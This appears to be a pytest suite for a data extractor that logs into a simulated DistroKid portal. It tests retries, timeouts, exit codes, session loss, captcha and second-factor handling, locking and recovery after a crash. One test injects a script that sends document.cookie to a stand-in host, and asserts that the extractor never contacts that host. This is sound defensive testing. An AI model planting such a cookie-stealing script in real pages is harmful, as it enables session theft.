"""What goes wrong with pages: bounded tries and time, the right exit code, nothing half-landed, and the next good run heals it."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fake_platforms.distrokid import DistroKid
from fake_platforms.server import Portal, page
from support.commands import PROJECT_DIR, rows
from support.distrokid import CREDENTIALS, TODAY, extract

from common.settings import Settings

CAPTCHA = "<h1>One more step</h1><iframe src='/captcha'></iframe>"
SIGN_IN = "<form action=/signin/><input type=email><input type=password><button type=submit>Sign in</button></form>"
MARKETING = "<title>Upload &amp; sell your music</title><h1>Keep 100%</h1><a href='/signin/'>Sign in</a>"
ELSEWHERE = "<title>We are moving</title><h1>Back soon</h1>"
QUICK = {"BEDROT_ANSWER_SECONDS": "3", "BEDROT_FAILING_SECONDS": "6", "BEDROT_TRIES": "3", "BEDROT_THROTTLE_SECONDS": "5"}
LEDGER, STREAMS, APPLE = ("distrokid", "bank_details"), ("distrokid", "streams_daily"), ("distrokid", "apple_daily")


def landed(config: Settings) -> tuple[int, int, int]:
    """How many rows of each table landed."""
    return tuple(
        len(rows(config, *table)) if (config.landing_dir / table[0] / table[1]).exists() else 0
        for table in (LEDGER, STREAMS, APPLE)
    )


BANK_PAGE, BANK_FILE, STREAMS_PAGE, APPLE_PAGE = "/bank/details/$", "/download", "/stats/.*streams", "/stats/.*applemusic"


@pytest.mark.parametrize(
    "faults",
    [
        [
            (BANK_PAGE, "throttle", {"seconds": 1}),
            (STREAMS_PAGE, "status", {"status": 500}),
            (APPLE_PAGE, "reset", {}),
        ],
        [
            (BANK_PAGE, "cut", {}),
            (BANK_FILE, "cut_gzip", {}),
            (STREAMS_PAGE, "throttle_date", {"seconds": 1}),
            (APPLE_PAGE, "drip", {}),
        ],
        [
            (BANK_PAGE, "status", {"status": 503, "headers": {"Retry-After": "1"}}),
            (BANK_FILE, "cut", {}),
            (STREAMS_PAGE, "cut", {}),
            (APPLE_PAGE, "empty", {"type": "text/html"}),
        ],
    ],
)
def test_what_passes_is_tried_again(config: Settings, faults: list[tuple[str, str, dict]]) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        for pattern, kind, options in faults:
            portal.fail(pattern, kind, times=1, **options)
        done = extract(config, portal, **CREDENTIALS | QUICK | {"BEDROT_FAILING_SECONDS": "40"})
        assert done.returncode == 0, done.stderr
        assert not [one for one in portal.faults if one.times], "a fault was never met"
        assert landed(config) == (40, 365, 365)


@pytest.mark.parametrize(
    "faults",
    [
        {
            (BANK_FILE, "cut"): ({}, "bank details: failed: the download failed"),
            (STREAMS_PAGE, "status"): ({"status": 500}, "answered with 500, 3 times"),
            (APPLE_PAGE, "reset"): ({}, "the connection failed"),
        },
        {
            (BANK_FILE, "cut_gzip"): ({}, "a download that ends in the middle"),
            (STREAMS_PAGE, "endless"): ({}, "no whole page within 3 s"),
            (APPLE_PAGE, "status"): ({"status": 404}, "not found (404)"),
        },
        {
            (BANK_PAGE, "page"): ({"html": ELSEWHERE}, "the bank details is not there"),
            (STREAMS_PAGE, "page"): ({"html": ELSEWHERE}, "shows another page ('We are moving'"),
            (APPLE_PAGE, "throttle"): ({"seconds": 40_000}, "asks to wait 11.1 h; nothing more is asked before"),
        },
        {
            (BANK_FILE, "hang"): ({"seconds": 20}, "no download started within 3 s"),
            (STREAMS_PAGE, "hang"): ({"seconds": 20}, "no whole page within 3 s"),
            (APPLE_PAGE, "empty"): ({"type": "text/html"}, "an empty page, 3 times"),
        },
    ],
)
def test_what_does_not_pass_ends_in_time_and_the_next_run_heals_it(
    config: Settings, faults: dict[tuple[str, str], tuple[dict, str]]
) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        for (pattern, kind), (options, _) in faults.items():
            portal.fail(pattern, kind, **options)
        started = time.monotonic()
        done = extract(config, portal, **CREDENTIALS | QUICK | {"BEDROT_FAILING_SECONDS": "40"})
        assert time.monotonic() - started < 120
        assert done.returncode == 5, done.stderr
        assert [told for _, told in faults.values() if told not in done.stderr] == [], done.stderr
        assert landed(config) == (0, 0, 0)
        portal.heal()
        for record in config.runs_dir.rglob("*.json"):
            record.unlink()
        assert extract(config, portal, **QUICK).returncode == 0
        assert landed(config) == (40, 365, 365)


def test_a_feed_that_fails_stops_no_other(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail(STREAMS_PAGE, "status", status=500)
        done = extract(config, portal, **CREDENTIALS | QUICK)
        assert done.returncode == 5 and landed(config) == (40, 0, 365), done.stderr


LOST = [
    ("redirect", {"to": "/signin/"}, "the session is lost"),
    ("page", {"html": SIGN_IN}, "the session is lost"),
    ("page", {"html": MARKETING}, "the session is lost"),
    ("page", {"html": CAPTCHA}, "a captcha is asked for"),
]


def test_a_lost_session_asks_for_a_person_at_once(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        assert extract(config, portal, **CREDENTIALS).returncode == 0
        for kind, options, why in LOST:
            portal.fail("/(bank|stats)/", kind, **options)
            before = len(portal.requests)
            done = extract(config, portal, **QUICK)
            assert done.returncode == 4 and why in done.stderr and "python cli.py login distrokid" in done.stderr, done.stderr
            asked = [one.path for one in portal.requests[before:] if one.path.startswith(("/bank", "/stats"))]
            assert asked == ["/bank/"]
            assert not any(one.method == "POST" for one in portal.requests[before:])
            assert '"state": "lost"' in (config.sessions_dir / "distrokid" / "main" / "session.json").read_text()
            portal.heal()
        assert extract(config, portal).returncode == 0


def test_a_password_is_typed_once_and_a_second_factor_asks_for_a_person(config: Settings) -> None:
    with DistroKid(TODAY) as portal:
        done = extract(config, portal, **CREDENTIALS)
        assert done.returncode == 4 and "a code is asked for" in done.stderr, done.stderr
        assert [one.path for one in portal.requests if one.method == "POST"] == ["/signin/"]


def test_the_browser_asks_no_other_host(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal, Portal() as elsewhere:
        elsewhere.on("GET", ".*")(lambda _: page("<h1>Elsewhere</h1>"))
        away = elsewhere.url.replace("127.0.0.1", "localhost")
        portal.fail("/stats/.*streams", "redirect", to=f"{away}/stats/")
        portal.fail("/stats/.*applemusic", "page", html=f"<script>fetch('{away}/steal?' + document.cookie)</script>")
        done = extract(config, portal, **CREDENTIALS | QUICK)
        assert done.returncode == 5 and "sent to another host (localhost)" in done.stderr, done.stderr
        assert elsewhere.requests == []


def test_a_session_that_others_can_read_is_refused(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        assert extract(config, portal, **CREDENTIALS).returncode == 0
        (config.sessions_dir / "distrokid" / "main" / "session.json").chmod(0o644)
        before = len(portal.requests)
        done = extract(config, portal)
        assert done.returncode == 2 and "can be read by others" in done.stderr, done.stderr
        assert len(portal.requests) == before


def start(config: Settings, portal: DistroKid) -> subprocess.Popen[str]:
    environment = CREDENTIALS | {
        "BEDROT_DATA_DIR": str(config.data_dir), "BEDROT_DISTROKID_BASE_URL": portal.url, "BEDROT_AS_OF": str(TODAY),
        "BEDROT_ANSWER_SECONDS": "10", "BEDROT_LOCK_WAIT_SECONDS": "0.5",
    }  # fmt: skip
    return subprocess.Popen(
        [sys.executable, str(PROJECT_DIR / "cli.py"), "extract", "distrokid"], env=os.environ | environment,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def until(portal: DistroKid, pattern: str) -> None:
    """Wait until something was asked."""
    deadline = time.monotonic() + 30
    while not portal.asked(pattern):
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_two_at_once_land_once(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail("/stats/.*streams", "hang", times=1, seconds=4)
        first = start(config, portal)
        until(portal, "/stats/")
        second = start(config, portal)
        assert "another run is fetching it" in second.communicate(timeout=60)[1]
        assert second.returncode == 7
        first.communicate(timeout=90)
        assert first.returncode == 0
    assert landed(config) == (40, 365, 365)


@pytest.mark.parametrize("pattern", ["/signin", "/download"])
def test_killed_at_any_point_the_next_run_heals(config: Settings, pattern: str) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail(pattern, "hang", times=1, seconds=3)
        process = start(config, portal)
        until(portal, pattern)
        process.kill()
        process.wait()
        assert landed(config)[1:] == (0, 0)
        portal.heal()
        done = extract(config, portal, **CREDENTIALS)
        assert done.returncode == 0, done.stderr
    assert landed(config) == (40, 365, 365)
    assert not [path for path in Path(config.data_dir).rglob("*.tmp") if "sessions" not in path.parts]
